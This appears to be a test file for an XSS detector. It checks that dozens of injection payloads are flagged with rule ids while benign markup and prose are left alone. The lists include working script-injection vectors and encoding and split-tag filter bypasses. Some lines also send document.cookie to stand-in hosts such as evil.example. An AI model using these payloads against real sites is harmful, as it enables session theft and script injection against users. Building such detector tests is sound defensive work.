import { describe, expect, it } from 'vitest'
import { BENIGN, flagsAndLeaves, p1, p4, tagOf } from './helpers.js'

const ATTACKS = [
  'look at this: confirm.call(null,1) lol',
  'look at this: alert.apply(null, [1]) lol',
  'look at this: self[/*x*/"alert"](1) lol',
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)//',
  '<svg/onload=alert`1`>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<iframe src="data:text/html,<script>alert(1)</script>">',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<object data="javascript:alert(1)">',
  '<embed src=x.swf>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form><button formaction=javascript:alert(1)>x',
  '<link rel=import href=//evil.example>',
  '<div style="width:expression(alert(1))">',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '" onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  '"><svg onload=alert(1)>',
  "'-alert(1)-'",
  '";alert(1)//',
  '</script><script>alert(1)</script>',
  'javascript:alert(document.cookie)',
  '  JaVaScRiPt:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '</a onmousemove="alert(1)">',
  'x onerror=alert(1);>',
  '<a href="data:application/x-x509-user-cert;&NewLine;base64&NewLine;,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">X</a>',
  '<br size="&{alert(1)}">',
  'top["al"+"ert"](1)',
]

const ENCODED = [
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '%253Cscript%253Ealert(1)',
  '&#x3c;script&#x3e;alert(1)',
  '&lt;img src=x onerror=alert(1)&gt;',
  '\\u003cscript\\u003ealert(1)',
  '\\x3cimg src=x onerror=alert(1)\\x3e',
  '＜script＞alert(1)＜/script＞',
  '<scr\u200bipt>alert(1)</script>',
  '<img src=x o\u00adnerror=alert(1)>',
  '<sCrIpT>alert(1)</ScRiPt>',
]

/** XML-world vectors, split-tag sanitizer bypasses and script-body ends (rule id expected). */
const XML_ATTACKS: [string, string][] = [
  [
    '<page xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click" ev:handler="#run"/>',
    'xss-event-handler',
  ],
  ['<listener event="activate" handler="#go" observer="btn"/>', 'xss-event-handler'],
  ['<handler ev:event="load" type="application/ecmascript">confirm(4)</handler>', 'xss-event-handler'],
  ['<?import namespace="v" implementation="https://evil.example/a.htc">', 'xss-active-element'],
  ['<import namespace="m" implementation="#default#time2">', 'xss-active-element'],
  ['<?xml-stylesheet type="text/xsl" href="evil.xsl"?><data/>', 'xss-active-element'],
  ['<?xml-stylesheet href="#s" type="application/xml"?>', 'xss-active-element'],
  ['<meta http-equiv="Content-Type" content="text/html;charset=UTF-7">', 'xss-meta-refresh'],
  ['<meta charset=utf7>', 'xss-meta-refresh'],
  ['<xsl:eval>top.open(location.hash)</xsl:eval>', 'xss-script-tag'],
  ['<xsl:if expr="window.open(name)"></xsl:if>', 'xss-script-injection'],
  ['<!DOCTYPE r [ <!ENTITY e PUBLIC "-//x" "https://evil.example/e.xml"> ]><r>&e;</r>', 'xss-link-import'],
  ['<!DOCTYPE feed SYSTEM "https://evil.example/f.dtd"><feed>&payload;</feed>', 'xss-link-import'],
  ["<?php print('<scr'); print('ipt>confirm(5)</script>'); ?>", 'xss-script-tag'],
  ['see prompt(document.domain)</SCRIPT> here', 'xss-script-tag'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a JS payload, not a template
  ['Reflect.apply.call`${top.open}${top}${[location.hash.slice(1)]}`', 'xss-script-injection'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a JS payload, not a template
  ['x.call`${y}`', 'xss-script-injection'],
  ['" autof<i>ocus o<i>nfocus=confirm<i>(7) x="', 'xss-attribute-breakout'],
  ['look: o<x>nmouseover=confirm<x>(7)//', 'xss-script-injection'],
  ['<img src=x o<b>nerror=prompt(8)>', 'xss-event-handler'],
]

/** Near misses: markup, XML and code talk that must stay allowed. */
const XML_BENIGN = [
  '<?xml version="1.0" encoding="UTF-8"?>',
  '<?xml-stylesheet type="text/css" href="print.css"?>',
  '<?php echo $title; ?>',
  'Add <?import?> at the top, then run the build.',
  'the <listener> element takes an event name',
  '<div class="handler" data-event="click">Save</div>',
  '<meta charset="utf-8"> goes first in <head>',
  'In XSL, <xsl:if test="@id"> filters nodes; <eval> was the old IE way.',
  '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "xhtml1-strict.dtd"><p>&nbsp;</p>',
  '<!DOCTYPE note SYSTEM "note.dtd"> then write &lt; and &amp; as usual',
  '<!DOCTYPE svg [ <!ENTITY ns "http://www.w3.org/2000/svg"> ]><svg>&ns;</svg>',
  'close it with </script> after the call',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a JS payload, not a template
  'use fn.call(obj, 1) or a template like `${a}` instead',
  'Map<String,List<Integer>> m; a<b>c; x<i>y</i>z',
  'List<string>x = new List<string>(n)',
]

describe('xss', () => {
  flagsAndLeaves(XML_ATTACKS, XML_BENIGN)
  it('reads long runs of the new openings to the end (linear cost)', () => {
    const rep = (x: string) => x.repeat(Math.ceil(100_000 / x.length)).slice(0, 100_000)
    for (const x of [
      '<?a b=',
      '<!doctype x system "',
      '<!entity x system ',
      'a<x>',
      'a</x>(',
      '<eval>a',
      '.call`',
    ])
      expect(p1.first(rep(x))).toBeNull()
    expect(p1.first(`${'<x ev:event=a '.repeat(7000)}ev:handler=b>`)?.rule).toBe('xss-event-handler')
  })

  it.each(ATTACKS)('flags %s', (s) => {
    expect(tagOf(s)).toBe('ws-xss')
  })
  it.each(ENCODED)('flags encoded %s', (s) => {
    expect(tagOf(s)).toBe('ws-xss')
  })
  it.each([
    ...BENIGN,
    'Type can either of `text`, `confirm`, `select` or `multiselect`.',
    'scripting commands such as `EVAL`, `EVALSHA` and `SCRIPT`.',
  ])('leaves %s alone at paranoia 1', (s) => {
    expect(p1.first(s)).toBeNull()
  })
  it('reports stable rule ids and the paranoia of the rule', () => {
    expect(p1.first('<script>x</script>')).toMatchObject({ rule: 'xss-script-tag', paranoia: 1, path: '$' })
    expect(p1.first('<img src=x onerror=alert(1)>')?.rule).toBe('xss-event-handler')
    expect(p1.first('javascript:alert(1)')?.rule).toBe('xss-script-url')
  })
  it('adds looser rules at higher paranoia', () => {
    expect(p1.first('please call alert(1) now')).toBeNull()
    expect(p4.first('please call alert(1) now')).toMatchObject({ tag: 'ws-xss', paranoia: 2 })
    expect(p1.first('a `<script>` tag')).toBeNull()
  })
  it('keeps the excerpt short and normalized', () => {
    const f = p1.first(`%3Cscript%3E${'a'.repeat(500)}`)
    expect(f?.excerpt?.length).toBeLessThanOrEqual(64)
    expect(f?.excerpt?.startsWith('<script>')).toBe(true)
  })
})

/**
 * A run of attributes after a quote (an injection into an attribute): only attributes with a
 * value fire, and `datasrc` is asked about with or without one. The words of prose after a
 * closing quote are such a run too, and leave nothing behind.
 */
describe('xss: attribute runs after a quote', () => {
  flagsAndLeaves(
    [
      ['<span datasrc=#x dataformatas=html>', 'xss-data-binding'],
      ['x" datasrc=#x dataformatas=html y', 'xss-data-binding'],
      ['x" datasrc dataformatas=html y', 'xss-data-binding'],
      ['x" autofocus onfocus=alert(1) y', 'xss-attribute-breakout'],
      ["x' style=x:expression(alert(1)) y", 'xss-css-expression'],
    ],
    [
      'x" dataformatas=html y',
      'he said "fine" and left, then "ok" to x=1',
      'it\'s "done" onfocus now, and x=y later',
    ],
    true,
  )
})

/**
 * A script scheme split by tabs or line breaks anywhere in the text, a sink after it: URL parsers
 * drop the tabs and line breaks, and a markdown renderer decodes the entities of a link's URL.
 */
describe('xss: a split script scheme inside a text', () => {
  flagsAndLeaves(
    [
      ['[x](java\tscript:alert(1))', 'xss-script-url'],
      ['[x](java\nscript:alert(document.cookie))', 'xss-script-url'],
      ['[x](java&#x09;script:alert(1))', 'xss-script-url'],
      ['[x](java&#x0A;script:alert(1))', 'xss-script-url'],
      ['hey so jav&#13ascript:alert(7) ok', 'xss-script-url'],
      ['[x](v\tbscript:msgbox(1))', 'xss-script-url'],
    ],
    [
      'see java\tscript: the language',
      'java\tscript is fun: alert(1) is a call',
      'java\nand script: alert me',
    ],
    true,
  )
})

/** A markdown link to a script URL, whatever the script does: the destination after `](` or `]:`. */
describe('xss: a markdown link to a script URL', () => {
  flagsAndLeaves(
    [
      ["[x](javascript:location='//evil.example/'+document.cookie)", 'xss-script-url'],
      ["[1]: javascript:open('//evil.example')", 'xss-script-url'],
      ['[x](java\tscript:history.go(-1))', 'xss-script-url'],
      ["[x](<javascript:new Image().src='//e.example/'+document.cookie>)", 'xss-script-url'],
      ["click [here](JavaScript:this['alert'](1)) now", 'xss-script-url'],
    ],
    [
      '[x](javascript:)',
      '[js](https://javascript.info)',
      'see [docs] javascript: rules',
      '[JavaScript](https://example.org/js): the language',
    ],
    true,
  )
})

/**
 * A script URL whose call the line-rate pass would take for prose (`alert (1)`: a blank before the
 * parenthesis) is read by the XSS rules: its scheme is a keyword of the pass. A title that starts
 * with the scheme's name is not code.
 */
describe('xss: a script URL the pass would take for prose', () => {
  flagsAndLeaves(
    [
      ['javascript:alert (1)', 'xss-script-url'],
      ['JavaScript:alert (document.domain)', 'xss-script-url'],
      ['vbscript:msgbox (1)', 'xss-script-url'],
      ['javas\tcript:alert (1)', 'xss-script-url'],
      ["javascript: void fetch ('//e.example/'+document.cookie)", 'xss-script-url'],
    ],
    [
      'JavaScript: Basics of JavaScript Language',
      'JavaScript: Basics of JavaScript Language (see #12)',
      'JavaScript: Basics of JavaScript Language & more',
      'javascript: the good parts',
      'the script: see below',
    ],
    true,
  )
  it('reads such a URL in a JSON frame too (the bytes and text pre-checks do not answer it)', () => {
    expect(p1.first('{"type":"chat","text":"javascript:alert (1)"}')?.rule).toBe('xss-script-url')
  })
})

/**
 * A whole value that calls a sink with a blank before the parenthesis is read by the XSS rules
 * (the line-rate pass keeps such a parenthesis: the sinks are words it does not dismiss next to);
 * a sink "called" on words of prose is no call.
 */
describe('xss: a sink called with a blank before its parenthesis', () => {
  flagsAndLeaves(
    [
      ['alert (1)', 'xss-js-expression'],
      ['alert (new Error)', 'xss-js-expression'],
      ['prompt (document.domain)', 'xss-js-expression'],
    ],
    ['alert (the team) now', 'print (the report) please', 'please alert (the team) about it'],
    true,
  )
})

/** Attributes a client-side framework runs as code (AngularJS, Vue, Alpine) count as handlers when they call something. */
describe('xss: framework event bindings', () => {
  flagsAndLeaves(
    [
      ['<input autofocus ng-focus=$event.view.alert(1)>', 'xss-event-handler'],
      ['<button ng-click="alert(1)">', 'xss-event-handler'],
      ['<x v-on:click=alert(1)>', 'xss-event-handler'],
      ['<div @click="alert(1)">', 'xss-event-handler'],
      ['<p data-ng-init="constructor.constructor(1)">', 'xss-event-handler'],
    ],
    [
      '<input ng-model="name">',
      '<div ng-if="user">',
      'use ng-click="save()" on the button',
      '<a x-on:click="open = true">',
    ],
    true,
  )
})
